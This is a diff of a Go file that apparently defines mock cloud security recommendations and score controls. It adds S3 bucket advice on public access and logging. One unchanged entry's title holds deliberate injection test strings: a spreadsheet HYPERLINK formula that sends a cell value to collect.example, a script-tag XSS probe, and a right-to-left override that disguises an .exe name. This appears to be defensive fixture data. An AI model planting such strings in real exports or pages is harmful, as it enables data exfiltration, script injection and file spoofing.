@@ -19,6 +19,7 @@ const (
 	aCluster
 	aSubnet
 	aGateway
+	aBucket // in another company's cloud
 	aSubscription
 )
 
@@ -122,6 +123,10 @@ var advices = []advice{
 		on: aSubscription, severity: "Low", categories: "IdentityAndAccess", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 30},
 	{key: "plan servers", title: "Microsoft Defender for Servers should be enabled", about: "Machines of the subscription are not watched.", fix: "Enable the plan.",
 		on: aSubscription, severity: "High", categories: "Compute", threats: "missingCoverage", effort: "Low", impact: "Low", rarely: 25},
+	{key: "bucket public", title: "S3 buckets should block public access", about: "Objects of the bucket may be made readable for everybody.", fix: "Block public access for the whole account of the other cloud.",
+		on: aBucket, severity: "High", categories: "Data", threats: "dataExfiltration", effort: "Low", impact: "Moderate", risk: "Critical", factors: "Internet exposure,Sensitive data", rarely: 40},
+	{key: "bucket log", title: "Access to buckets should be logged", about: "Nobody can say later who read what.", fix: "Send the log of the bucket to an account of its own.",
+		on: aBucket, severity: "Low", categories: "Data", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 50},
 	{key: "foreign words", title: "診断ログを有効にする必要があります", about: "ログは調査に必要です。", fix: "設定で有効にします。",
 		on: aVault, severity: "Low", categories: "Data", threats: "threatResistance", effort: "Low", impact: "Low", rarely: 40},
 	{key: "house rule", title: "=HYPERLINK(\"http://collect.example/?x=\"&A1,\"open\") <script>alert('advice')</script> \u202egnp.exe\u202c",
@@ -136,13 +141,13 @@ var shields = []shield{
 	{"vulnerabilities", "Remediate vulnerabilities", "What a scan finds is resolved.", 6, []string{"assessment agent", "sql findings", "images"}, 0},
 	{"encrypt transit", "Encrypt data in transit", "Nobody reads along on the way.", 4, []string{"secure transfer", "web https", "web tls"}, 0},
 	{"access", "Manage access and permissions", "People have as much power as their work takes.", 4, []string{"guests", "owners", "cluster rbac", "privileged", "web identity"}, 0},
-	{"network", "Restrict unauthorized network access", "Networks let in only what they know.", 4, []string{"internet facing", "storage network", "vault firewall", "subnet group"}, 0},
+	{"network", "Restrict unauthorized network access", "Networks let in only what they know.", 4, []string{"internet facing", "storage network", "vault firewall", "subnet group", "bucket public"}, 0},
 	{"encrypt rest", "Enable encryption at rest", "Stolen disks tell nothing.", 4, []string{"disk encryption", "sql encryption"}, 0},
 	{"configuration", "Remediate security configurations", "Settings follow a baseline.", 4, []string{"baseline", "house rule"}, 0},
 	{"application control", "Apply adaptive application control", "Only known programs start.", 3, []string{"application control"}, 7},
 	{"endpoint", "Enable endpoint protection", "Malware is seen and stopped on the machine.", 2, []string{"endpoint protection", "endpoint health"}, 0},
 	{"ddos", "Protect applications against DDoS attacks", "Sites stay reachable under load.", 2, []string{"ddos", "waf"}, 0},
-	{"audit", "Enable auditing and logging", "What happened can be told later.", 1, []string{"sql audit", "local updates", "foreign words"}, 0},
+	{"audit", "Enable auditing and logging", "What happened can be told later.", 1, []string{"sql audit", "local updates", "foreign words", "bucket log"}, 0},
 	{"enhanced", "Enable enhanced security features", "Resources are watched by the plans made for them.", 0, []string{"plan servers", "contact mail", "public blobs", "vault purge"}, 0},
 }
 
